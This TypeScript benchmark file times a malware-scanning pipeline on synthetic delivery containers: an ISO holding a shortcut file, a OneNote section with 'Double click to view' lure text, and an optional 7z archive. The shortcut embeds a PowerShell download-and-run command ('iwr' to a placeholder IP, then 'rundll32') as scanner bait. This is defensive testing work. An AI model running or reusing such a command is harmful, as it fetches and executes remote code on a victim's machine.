/**
 * In-process throughput of the 2022–2023 delivery containers through `scanInput`: a 64 MiB ISO (Joliet,
 * 256 files, one shortcut among them), a 32 MiB OneNote section (64 embedded files) and, when 7-Zip
 * (`7zz`) is installed, a 32 MiB LZMA2 7z (decoded in pure TypeScript). Measures MB/s over all three
 * and the peak RSS.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { scanInput } from '../src/pipeline/index.js';
import { buildIso } from '../test/builders/iso.js';
import { buildPowerShellLnk } from '../test/builders/lnk.js';
import { buildOneNote } from '../test/builders/onenote.js';
import { benchResult, MB, seededRandom, startRssSampler, type BenchResult } from './lib.js';

export const name = 'delivery-containers';

function payload(random: () => number, size: number): Uint8Array {
  // Half text, half noise: compressible like documents, not like zeros.
  const out = new Uint8Array(size);
  const words = new TextEncoder().encode(
    'invoice payment shipment quarterly report attached regards ',
  );
  for (let i = 0; i < size; i++)
    out[i] = i % 512 < 256 ? words[i % words.length]! : Math.floor(random() * 256);
  return out;
}

function sevenZip(random: () => number): Uint8Array | undefined {
  if (spawnSync('sh', ['-c', 'command -v 7zz']).status !== 0) return undefined;
  const dir = mkdtempSync(join(tmpdir(), 'emoguard-bench-7z-'));
  try {
    for (let i = 0; i < 32; i++) writeFileSync(join(dir, `doc-${i}.bin`), payload(random, MB));
    execFileSync('7zz', ['a', '-bd', '-y', 'a.7z', '.', '-xr!a.7z'], { cwd: dir, stdio: 'ignore' });
    return new Uint8Array(readFileSync(join(dir, 'a.7z')));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

export async function run(): Promise<BenchResult> {
  const random = seededRandom(0x150);
  const files = Array.from({ length: 255 }, (_, i) => ({
    path: `docs/${i % 8}/file-${i}.dat`,
    data: payload(random, 256 * 1024 - 1024),
  }));
  files.push({
    path: 'Invoice.lnk',
    data: buildPowerShellLnk('iwr http://192.0.2.1/a -OutFile a.dll; rundll32 a.dll,Run'),
  });
  const inputs: [string, Uint8Array][] = [
    ['bench.iso', buildIso({ files })],
    [
      'bench.one',
      buildOneNote({
        files: Array.from({ length: 64 }, (_, i) => ({
          name: `part-${i}.dat`,
          data: payload(random, MB / 2),
        })),
        texts: ['Double click to view'],
      }),
    ],
  ];
  const archive = sevenZip(random);
  if (archive) inputs.push(['bench.7z', archive]);
  const rss = startRssSampler();
  const started = process.hrtime.bigint();
  const verdicts: string[] = [];
  let bytes = 0;
  for (const [path, data] of inputs) {
    const result = await scanInput({ path, bytes: data });
    verdicts.push(`${path} ${result.type} ${result.verdict} ${result.children.length} children`);
    bytes += data.length;
  }
  const seconds = Number(process.hrtime.bigint() - started) / 1e9;
  return benchResult({
    name,
    items: inputs.length,
    bytes,
    seconds,
    peakRssMb: rss.stop(),
    notes: `${verdicts.join('; ')}${archive ? '' : '; 7zz absent: 7z part skipped'}`,
  });
}
